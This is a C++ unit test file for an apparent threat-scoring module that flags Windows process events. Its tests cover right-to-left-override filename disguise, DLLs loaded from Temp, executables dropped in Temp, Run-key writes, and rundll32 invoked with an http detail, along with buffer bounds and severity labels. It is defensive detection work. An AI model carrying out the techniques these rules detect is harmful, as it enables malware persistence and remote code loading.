TEST_CASE("a right-to-left override is found at every place of a path, up to the field's end") {
    static EventRow row;
    std::vector<size_t> places;
    for (size_t p = 0; p < 40; ++p)
        places.push_back(p);
    for (size_t p = kPathChars - 24; p < kPathChars; ++p)
        places.push_back(p);
    for (size_t place : places) {
        for (bool terminated : {true, false}) {
            std::memset(&row, 0, sizeof row);
            row.category = kCategoryFile;
            CopyBounded(row.operation, kOperationChars, u"Read file");
            // The path runs to the override and ends there, or fills the field.
            const size_t length = terminated ? place + 1 : kPathChars;
            for (size_t i = 0; i < length; ++i)
                row.path[i] = i == place ? u'\u202E' : u'x';
            CAPTURE(place);
            CAPTURE(terminated);
            REQUIRE(ScoreRow(&row, row.threat, kThreatChars) == 3);
            REQUIRE(U8(row.threat) == "Double extension or RLO disguise");
        }
    }
}

TEST_CASE("operation classes: exact names; an unknown operation meets every rule of its category") {
    const struct {
        uint32_t classes;
        std::vector<const char16_t*> operations;
    } byClass[] = {
        {0x01,
         {u"Opened file", u"Read file", u"Read file information", u"Read file permissions",
          u"Read extended attributes", u"Listed folder", u"Watching folder for changes",
          u"Closed file", u"Released file handle", u"Flushed file", u"Opened registry key",
          u"Read registry key", u"Read registry value", u"Listed registry keys",
          u"Listed registry values", u"Read several registry values", u"Closed registry key",
          u"Flushed registry key", u"Connected to pipe", u"Opened disk for raw access"}},
        {0x02,
         {u"Wrote to file", u"Created new file", u"Renamed file", u"Renamed file by path",
          u"Changed file information", u"Created link", u"Set file permissions",
          u"Set extended attributes", u"File system control", u"Created registry key",
          u"Wrote registry value", u"Changed registry key information", u"Created pipe",
          u"Wrote alternate data stream"}},
        {0x04, {u"Started child process", u"Started process"}},
        {0x08, {u"Mapped file into memory", u"Unmapped file", u"Loaded DLL", u"Unloaded DLL"}},
        {0x10,
         {u"Sent data (TCP)", u"Received data (TCP)", u"Connected (TCP)", u"Disconnected (TCP)",
          u"Retransmitted (TCP)", u"Accepted a connection (TCP)", u"Reconnected (TCP)",
          u"Copied data (TCP)", u"Sent data (UDP)", u"Received data (UDP)", u"DNS query",
          u"DNS answer"}},
        {0x20, {u"Process exited", u"Target process exited"}},
        {0x40,
         {u"Deleted file", u"Deleted file by path", u"Deleted registry key",
          u"Deleted registry value"}},
    };
    size_t named = 0;
    for (const auto& c : byClass) {
        for (const char16_t* operation : c.operations) {
            CAPTURE(U8(operation));
            CHECK(ClassOfText(operation) == c.classes);
            ++named;
        }
    }
    CHECK(named == 58);
    CHECK(ClassOfText(u"opened file") == 0);
    CHECK(ClassOfText(u"Opened file ") == 0);
    CHECK(ClassOfText(u"Changed registry key information, and then some more") == 0);
    CHECK(OperationClassOf(RowKind::Other) == 0);
    CHECK(OperationClassOf(RowKind::kCount) == 0);
    CHECK(OperationClassOf(static_cast<RowKind>(0xFFFF)) == 0);
    // The class belongs to the kind, and a kind to its category: a known text in another
    // category is of no kind, so it is not kept from the rules of other classes.
    CHECK(Score({kFile, u"Loaded DLL", u"C:\\Users\\a\\AppData\\Local\\Temp\\x.exe", u"", u"OK"})
              .severity == 3);
    CHECK(Score({kFile, u"Unmapped file", u"C:\\Users\\a\\AppData\\Local\\Temp\\x.exe", u"",
                 u"OK"}) == Scored{0, ""});
    CHECK(Score({kProc, u"Something new", u"C:\\Users\\a\\AppData\\Local\\Temp\\e.dll", u"", u""})
              .threat == "DLL loaded from unusual directory");
    CHECK(Score({kReg, u"wrote registry value", kRunKey, u"", u"OK"}).severity == 3);
    // The same rows under a known operation of another class are left alone.
    CHECK(Score({kProc, u"Process exited", u"C:\\Users\\a\\AppData\\Local\\Temp\\e.dll", u"",
                 u""}) == Scored{0, ""});
    // A row of no known category meets no rule of a category.
    CHECK(Score({7, u"Wrote to file", u"C:\\Users\\a\\AppData\\Roaming\\e.exe", u"", u"OK"}) ==
          Scored{0, ""});
}

TEST_CASE("the threat text is bounded by its capacity; the severity is always returned") {
    char16_t out[40];
    const auto scoreInto = [&](const RowInput& input, size_t capacity) {
        std::fill(out, out + 40, u'#');
        return ScoreRow(&Row(input), out, capacity);
    };
    const RowInput two = {kFile, u"Created new file", u"C:\\Users\\a\\AppData\\Local\\Temp\\x.exe",
                          u"", u"OK"}; // rules 10 and 11
    CHECK(scoreInto(two, 10) == 3);
    CHECK(U8(out) == "Executabl"); // no room for the suffix
    CHECK(scoreInto(two, 30) == 3);
    CHECK(U8(out) == "Executable dropped in Temp (+"); // cut like any other text
    CHECK(out[30] == u'#');
    CHECK(scoreInto(two, 1) == 3);
    CHECK((out[0] == 0 && out[1] == u'#'));
    CHECK(scoreInto(two, 0) == 3);
    CHECK(out[0] == u'#');
    CHECK(ScoreRow(&Row(two), nullptr, 128) == 3);
    // A row that matches nothing leaves an empty text behind.
    CHECK(scoreInto({kFile, u"Read file", u"C:\\Windows\\win.ini", u"", u"OK"}, 40) == 0);
    CHECK(out[0] == 0);
}

TEST_CASE("a row whose texts fill their buffers is read only within them") {
    EventRow& row = Row({kProc, kStart, u"", u"", u"OK"});
    std::fill(row.path, row.path + kPathChars, u'a');
    std::fill(row.detail, row.detail + kDetailChars, u'b');
    // "rundll32" at the very end of the path, "http" at the very end of the detail.
    std::memcpy(row.path + kPathChars - 8, u"rundll32", 8 * sizeof(char16_t));
    std::memcpy(row.detail + kDetailChars - 4, u"http", 4 * sizeof(char16_t));
    char16_t out[kThreatChars];
    CHECK(ScoreRow(&row, out, kThreatChars) == 3);
    // A name split across the end of the path and the start of the detail is not found.
    std::memcpy(row.path + kPathChars - 8, u"aarundll", 8 * sizeof(char16_t));
    std::memcpy(row.detail, u"32 ", 3 * sizeof(char16_t));
    CHECK(ScoreRow(&row, out, kThreatChars) == 0);
}

TEST_CASE("severity labels") {
    const char* expected[] = {"", "Low", "Medium", "High", ""};
    for (uint32_t s = 0; s < 5; ++s)
        CHECK(U8(SeverityLabel(s)) == expected[s]);
    CHECK(U8(SeverityLabel(0xFFFFFFFFu)).empty());
}
